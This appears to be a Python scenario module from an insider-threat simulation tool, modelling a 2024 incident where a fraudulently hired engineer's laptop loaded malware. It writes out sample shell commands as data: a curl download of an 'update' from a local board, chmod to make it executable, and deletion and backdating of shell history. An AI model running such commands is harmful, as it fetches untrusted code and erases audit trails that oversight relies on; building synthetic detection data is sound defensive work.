"""Twenty-five minutes on the first evening.

KnowBe4, July 2024: a principal engineer passed four video interviews and a background check on a stolen identity; the
laptop went to another state than the claimed home and somebody else fetched it. On 15 July at 21:55 it began to load
malware, session history was altered and files came from a small board on the local network; at 22:20 it was cut off.
"""

from __future__ import annotations

from sleetwatch.worlds.devices import issued_laptop
from sleetwatch.worlds.people import Ran, Reached
from sleetwatch.worlds.schemes.acting import act_together
from sleetwatch.worlds.schemes.loot import leave
from sleetwatch.worlds.schemes.stage import Script, Stage
from sleetwatch.worlds.software import Program

_COMMANDS = (
    ("curl", "curl -sO http://raspberrypi.local:8000/update"),
    ("chmod", "chmod +x update"),
    ("rm", "rm -f .zsh_history"),
    ("touch", "touch -t 202401010000 .zsh_history"),
)
"""What was run is not published in words; this is of the kind."""


def play(stage: Stage) -> None:
    actor = stage.enter(only=("kept elsewhere", "malware at once"))
    person = actor.person
    desk = person.laptop.peripherals
    person.laptop = issued_laptop(stage.dice, mac=True)
    person.laptop.peripherals = desk
    act_together(stage)
    for minute, (name, command) in enumerate(_COMMANDS):
        program = Program(name, "/usr/bin", "", "", command, "zsh")
        person.ran.append(Ran(actor.begins, 21.92 + minute * 0.06, program))
    board = f"192.168.1.{stage.dice.randrange(20, 250)}"
    person.reached.append(Reached(actor.begins, 21.95, (board, board, 8000), "curl"))
    person.hours.length, person.hours.start = 13.6, 9.0
    leave(stage, actor, actor.begins + 1)
    person.away.add(actor.begins + 1)
    actor.ended = "caught"
    stage.tell(SCRIPT.name, SCRIPT.story)


SCRIPT = Script(
    name="first-evening",
    levels=("L2",),
    sizes=(1, 1),
    play=play,
    story="Malware on the first evening, and cut off twenty-five minutes later.",
    source="KnowBe4, 23 July 2024",
)
